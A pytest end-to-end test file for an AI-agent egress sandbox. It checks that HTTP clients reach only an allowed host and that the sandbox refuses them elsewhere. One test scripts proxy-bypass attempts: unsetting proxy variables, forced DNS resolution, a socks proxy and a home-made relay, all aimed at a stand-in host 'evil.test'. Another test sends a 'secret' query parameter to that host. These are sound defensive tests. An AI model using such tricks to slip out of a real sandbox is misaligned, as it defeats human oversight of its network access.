"""Programs as agents use them: all of them work, with proxy variables and without, and all of them are refused."""

from __future__ import annotations

import functools
import json
import re
import subprocess
from typing import TYPE_CHECKING

import pytest

from aisb.domain.rules import PROBED
from tests.e2e.clients import CLIENTS, PACKAGES
from tests.e2e.lab import LABORATORY
from tests.e2e.legs import (
    EVIL_V4,
    EVIL_V6,
    Inside,
    Probe,
    arrived,
    asked,
    astray_inside,
    astray_outside,
    curl,
    inside,
    look_up,
    needs_sinks,
    outside,
    requested,
    run,
)

if TYPE_CHECKING:
    from tests.e2e.lab import Lab
    from tests.e2e.legs import Leg

# A test may be the first to need the clients' image, which takes a minute or two.
pytestmark = [needs_sinks, pytest.mark.timeout(900)]

PROXY = "http://127.0.0.1:3128"
NO_PROXY = "localhost,127.0.0.1,::1,0.0.0.0,host.aisb.internal,198.18.0.0/15"


@functools.cache
def options_with_clients(host: str) -> str:
    """The options of a run that has the clients' packages, once their image is built: not from the fake internet."""
    argv = (f"{LABORATORY}/host", host, "--", "aisb", "build", "--install", PACKAGES)
    done = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL, check=False)
    assert done.returncode == 0, done.stderr
    return f"--install {PACKAGES}"


def in_both_ways(names: tuple[str, ...], *urls: str, **env: str) -> dict[str, Leg]:
    """These clients with the proxy variables and without them."""
    return {
        f"{name}, {way}": run(*CLIENTS[name], *urls, bare=way == "without", **env)
        for name in names
        for way in ("by proxy", "without")
    }


def decided(outcome: Inside) -> list[tuple[str, int, str]]:
    """Each decision on record, in its order, but for the ones that a start makes."""
    return [(item["host"], item["port"], item["decision"]) for item in outcome.audit if item["host"] not in PROBED]


ALLOWED = ("https://allowed.test", "https://x.allowed.test")
DENIED = (
    "https://evil.test",
    "http://evil.test",
    f"https://{EVIL_V4}",
    f"http://{EVIL_V4}",
    f"https://[{EVIL_V6}]",
    f"http://[{EVIL_V6}]",
    "https://allowed.test:8443",
    "http://allowed.test:8443",
)
SHOWN = {"git": "hello from a repository"}


def said_by_clients(lab: Lab, *urls: str, bare: bool = False, **env: str) -> dict[str, list[str]]:
    """What each client says of each page, in a sandbox that may reach allowed.test."""
    legs = {name: run(*argv, *urls, bare=bare, **env) for name, argv in CLIENTS.items()}
    if not bare:
        legs["fetch, told to"] = run(*CLIENTS["fetch"], *urls, **env, NODE_USE_ENV_PROXY="1")
    said = inside(lab, f"{options_with_clients(lab.name)} --allow allowed.test", legs).said
    assert said.keys() == legs.keys()
    return {leg: text.split("\n") for leg, text in said.items()}


@pytest.mark.parametrize("way", ["by proxy", "without"])
def test_every_client_reaches_what_is_allowed_and_nothing_else(lab: Lab, way: str) -> None:
    """
    By name, address and port, v4 and v6, with proxy variables and without; refused within a second.

    (B14, B24, B25)
    """
    outside(lab, {"curl": run(*CLIENTS["curl"], *DENIED)})
    assert set(arrived(lab)) == {"evil.test 80", "evil.test 443", "allowed.test 8443"}
    assert {item["address"] for item in lab.sinks("connect", sink="evil.test")} == {EVIL_V4, EVIL_V6}
    said = said_by_clients(lab, *ALLOWED, *DENIED, bare=way == "without")

    assert said == {
        leg: [SHOWN.get(leg, "hello from allowed.test")] * len(ALLOWED) + ["denied"] * len(DENIED) for leg in said
    }
    assert set(arrived(lab)) == {"allowed.test 443"}
    assert asked(lab) <= {"allowed.test", "x.allowed.test"}


# The clients that go to the proxy of their variables; the others dial the address that a name has in the sandbox.
HEED_VARIABLES = {"curl", "wget", "git", "urllib", "requests", "httpx", "aiohttp, trusting", "fetch, told to"}


def test_the_documentation_says_which_client_takes_which_way(lab: Lab) -> None:
    """With variables that lead nowhere, whoever heeds them gets nowhere, and nobody else takes notice. (B14, B25)"""
    nowhere = dict.fromkeys(("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"), "http://127.0.0.1:9")
    said = said_by_clients(lab, "http://allowed.test", "https://allowed.test", **nowhere)

    assert said == {leg: 2 * ["denied" if leg in HEED_VARIABLES else "hello from allowed.test"] for leg in said}


def test_plain_clients_need_no_setting(lab: Lab) -> None:
    """curl ignores HTTP_PROXY, wget knows lower case only: both work with all, with none, with half of them. (B02)"""
    upper = dict.fromkeys(("http_proxy", "https_proxy", "no_proxy"), "")
    lower = dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY"), "")
    legs = {
        f"{name}, {way}": run(
            *CLIENTS[name], "http://allowed.test/", "https://allowed.test/", bare=way == "without", **env
        )
        for name in ("curl", "wget")
        for way, env in (("both", {}), ("upper case", upper), ("lower case", lower), ("without", {}))
    }

    outcome = inside(lab, "--allow allowed.test", legs)

    assert outcome.said == dict.fromkeys(legs, "hello from allowed.test\nhello from allowed.test")
    # squid keeps a plain connection for the next request: not every one of them arrives as a connection.
    assert requested(lab) == sorted(
        f"allowed.test GET {scheme}://allowed.test/" for scheme in ("http", "https") for _ in legs
    )
    assert outcome.denials() == set()


def test_the_hosts_proxy_settings_stay_on_the_host(lab: Lab) -> None:
    """Its variables, a socks proxy among them, are not the sandbox's; both cases of ours say the same. (B02, B24)"""
    clients = in_both_ways(("curl", "wget", "urllib", "requests", "httpx", "aiohttp, trusting"), "https://allowed.test")
    shown = {"variables": run("sh", "-c", "env | grep -i proxy | sort")}
    of_host = {
        "ALL_PROXY": "socks5://127.0.0.1:1080",
        "all_proxy": "socks5h://127.0.0.1:1080",
        "HTTPS_PROXY": f"http://{EVIL_V4}:3128",
        "http_proxy": f"http://u:secret@{EVIL_V4}:3128",
        "NO_PROXY": "[::1],*",
    }

    said = inside(lab, f"{options_with_clients(lab.name)} --allow allowed.test", clients | shown, env=of_host).said

    assert said == dict.fromkeys(clients, "hello from allowed.test") | {
        "variables": f"HTTPS_PROXY={PROXY}\nHTTP_PROXY={PROXY}\nNO_PROXY={NO_PROXY}\n"
        f"http_proxy={PROXY}\nhttps_proxy={PROXY}\nno_proxy={NO_PROXY}"
    }
    assert arrived(lab) == {"allowed.test 443": len(clients)}


# A relay of the agent's own in front of the proxy, and curl through it.
RELAY = """
import asyncio, sys
async def copy(reader, writer):
    while data := await reader.read(65536):
        writer.write(data)
    writer.close()
async def serve(reader, writer):
    far_reader, far_writer = await asyncio.open_connection("127.0.0.1", 3128)
    await asyncio.gather(copy(reader, far_writer), copy(far_reader, writer))
async def main():
    async with await asyncio.start_server(serve, "127.0.0.1", 9999):
        argv = ("curl", "-sS", "--proxy", "http://127.0.0.1:9999", *sys.argv[1:])
        curl = await asyncio.create_subprocess_exec(*argv, stdout=-1, stderr=-2)
        print((await curl.communicate())[0].decode().partition("\\n")[0])
asyncio.run(main())
"""


def test_no_setting_of_a_client_opens_another_way(lab: Lab) -> None:
    """Variables taken away, turned off or bent, a resolver of one's own, a relay of one's own. (A18, A28)"""
    https = ("--insecure", "https://evil.test/")
    elsewhere = f"http://{EVIL_V4}:3128"
    evil, allowed = "hello from evil.test", "hello from allowed.test"
    direct = ("--noproxy", "*")
    probes = {
        "as it is": Probe(curl(*https), "403", evil),
        "without": Probe(curl(*https, bare=True), "no such name", evil),
        "NO_PROXY": Probe(curl(*https, NO_PROXY="*", no_proxy="*"), "no such name", evil),
        "ALL_PROXY": Probe(curl(*https, bare=True, ALL_PROXY=""), "no such name", evil),
        "another proxy": Probe(curl(*https, https_proxy=elsewhere, HTTPS_PROXY=elsewhere), "cut"),
        "a socks proxy": Probe(curl("--proxy", f"socks5h://{EVIL_V4}:1080", *https), "cut"),
        "noproxy": Probe(curl(*direct, *https), "no such name", evil),
        "resolved, v4": Probe(curl(*direct, "--resolve", f"evil.test:443:{EVIL_V4}", *https), "cut", evil),
        "resolved, v6": Probe(curl(*direct, "--resolve", f"evil.test:443:[{EVIL_V6}]", *https), "cut", evil),
        "resolved as allowed": Probe(curl(*direct, "--connect-to", "::allowed.test:", *https), "cut", allowed),
        "relay": Probe(run("python3", "-c", RELAY, *https), "curl: (56) CONNECT tunnel failed, response 403"),
        "relay, plain": Probe(run("python3", "-c", RELAY, "http://evil.test/"), "403 Access denied by egress policy"),
        "relay, own": Probe(run("python3", "-c", RELAY, "https://allowed.test/"), allowed),
    }

    assert astray_outside(lab, probes) == {}
    assert astray_inside(lab, probes) == {}
    assert arrived(lab) == {"allowed.test 443": 2}


# What was refused and the entry that would allow it, of each line at the end.
SUMMARY = re.compile(r"^aisb: denied (\S+)(?: \(\d+ times\))?: [^\n]*?(?:--allow (\S+)( \(.*\))?)?$", re.MULTILINE)


def test_a_refusal_says_what_would_allow_it(lab: Lab) -> None:
    """To the client where it can be said, in the status line of a tunnel, and to the user at the end. (B01)"""
    legs = {
        "page": run("curl", "-sS", "http://evil.test/a?secret=1"),
        "page as JSON": run("curl", "-sS", "-H", "Accept: application/json", "http://evil.test:8080/"),
        "tunnel": run("sh", "-c", "curl -sSv https://evil.test/ 2>&1 | grep '< HTTP'"),
        "direct": curl("--noproxy", "*", "https://evil.test/"),
        "direct page": run("curl", "-sS", "--noproxy", "*", f"http://{EVIL_V4}/"),
    }

    outcome = inside(lab, "--allow allowed.test", legs)

    assert [line for line in outcome.said["page"].split("\n") if not line.startswith("who: ")] == [
        "403 Access denied by egress policy",
        "host: evil.test",
        "port: 80",
        "method: GET",
        "path: /a",
        "reason: not-listed (no entry of the policy covers this host)",
        "next: to allow it, the user starts the sandbox with: --allow evil.test; or, for this one: aisb allow evil.test",
        "Do not work around it: ask the user.",
    ]
    told = json.loads(outcome.said["page as JSON"])
    assert (told["host"], told["port"], told["rule_missing"]) == ("evil.test", 8080, "evil.test:8080")
    assert {leg: outcome.said[leg].partition("\n")[0] for leg in ("tunnel", "direct", "direct page")} == {
        "tunnel": "< HTTP/1.1 403 Access denied by egress policy: not-listed evil.test:443",
        "direct": "no such name",
        "direct page": "403 Access denied by egress policy",
    }
    assert set(SUMMARY.findall(outcome.errors)) == {
        ("evil.test:80", "evil.test", ""),
        ("evil.test:8080", "evil.test:8080", ""),
        ("evil.test:443", "evil.test", ""),
        ("evil.test", "evil.test", " (it opens 80 and 443; for another port: evil.test:PORT)"),
        (f"{EVIL_V4}:80", f"{EVIL_V4}:80", ""),
    }
    assert arrived(lab) == {}


# Servers as a developer starts them, on the addresses of the first argument, and a client for them.
LOCAL = """
import socket, subprocess, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"local")
    def log_message(self, *arguments):
        pass
class V6(ThreadingHTTPServer):
    address_family = socket.AF_INET6
addresses, hosts, *client = sys.argv[1:]
ports = (3000, 80, 443)
for address in addresses.split():
    for port in ports:
        server = (V6 if ":" in address else ThreadingHTTPServer)((address, port), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
urls = [f"http://{host}:{port}" for host in hosts.split() for port in ports]
print(subprocess.run((*client, *urls), stdout=-1, text=True).stdout.strip())
"""


# Where the servers listen, and what a client calls them.
LOCAL_HOSTS = {"127.0.0.1 ::1": "127.0.0.1 localhost [::1]", "0.0.0.0": "127.0.0.1 localhost 0.0.0.0"}


def test_servers_on_localhost_are_the_sandboxs_own(lab: Lab) -> None:
    """On any port, 80 and 443 among them, with proxy variables and without: no request comes to the gate. (B40)"""
    legs = {
        f"{name}, {way}, on {addresses}": run(
            "python3", "-c", LOCAL, addresses, hosts, *CLIENTS[name], bare=way == "without"
        )
        for name in ("curl", "wget", "fetch", "requests", "httpx", "aiohttp, trusting")
        for way in ("by proxy", "without")
        for addresses, hosts in LOCAL_HOSTS.items()
    }
    # It compares the host in its brackets with no_proxy; brackets there would keep httpx from starting.
    urllib = {
        f"urllib, {host}": run("python3", "-c", LOCAL, host, host, *CLIENTS["urllib"])
        for host in ("127.0.0.1", "localhost", "0.0.0.0")
    }

    outcome = inside(lab, f"{options_with_clients(lab.name)} --allow allowed.test", legs | urllib)

    assert outcome.said == {
        **dict.fromkeys(legs, "\n".join(["local"] * 9)),
        **dict.fromkeys(urllib, "\n".join(["local"] * 3)),
    }
    assert decided(outcome) == []
    assert arrived(lab) == {}


# The least of three times until the first byte, in seconds: a busy machine may be late once.
CURL_TIMES = """
for _ in 1 2 3; do
    curl -sS -o /dev/null -w '%{time_starttransfer}\\n' "$@" https://allowed.test/
done | sort -n | head -n 1
"""
FETCH_TIMES = """
(async () => {
    const times = [];
    for (let tries = 0; tries < 3; tries++) {
        const started = performance.now();
        await (await fetch("https://allowed.test/")).text();
        times.push(performance.now() - started);
    }
    console.log(Math.min(...times) / 1000);
})();
"""
# A client of the simplest kind: IPv6 addresses first, one after the other.
PYTHON_TIMES = """
import http.client, socket, time
addresses = socket.getaddrinfo
socket.getaddrinfo = lambda *given: sorted(addresses(*given), key=lambda found: found[0] != socket.AF_INET6)
def seconds():
    started = time.monotonic()
    connection = http.client.HTTPSConnection("allowed.test", timeout=3)
    connection.request("GET", "/")
    connection.getresponse().read(1)
    return time.monotonic() - started
print(min(seconds() for _ in range(3)))
"""


def test_clients_that_prefer_ipv6_do_not_wait(lab: Lab) -> None:
    """
    A name that has addresses of both kinds outside has IPv4 ones inside, and the first byte comes within a second.

    The record holds the name, though an address was dialled. (B42, B48)
    """
    timed = {
        "curl": run("sh", "-c", CURL_TIMES, "curl", "--noproxy", "*"),
        "fetch": run("node", "--dns-result-order=ipv6first", "-e", FETCH_TIMES, bare=True),
        "http.client": run("python3", "-c", PYTHON_TIMES, bare=True),
    }
    families = {"families": look_up("allowed.test")}

    assert outside(lab, families) == {"families": "v4 v6"}
    outcome = inside(lab, "--allow allowed.test", timed | families)

    assert {leg: text if leg in families else float(text) < 1 for leg, text in outcome.said.items()} == {
        **dict.fromkeys(timed, True),
        "families": "v4",
    }
    # A client may ask twice over one connection.
    assert set(arrived(lab)) == {"allowed.test 443"}
    assert set(decided(outcome)) == {("allowed.test", 443, "allow")}
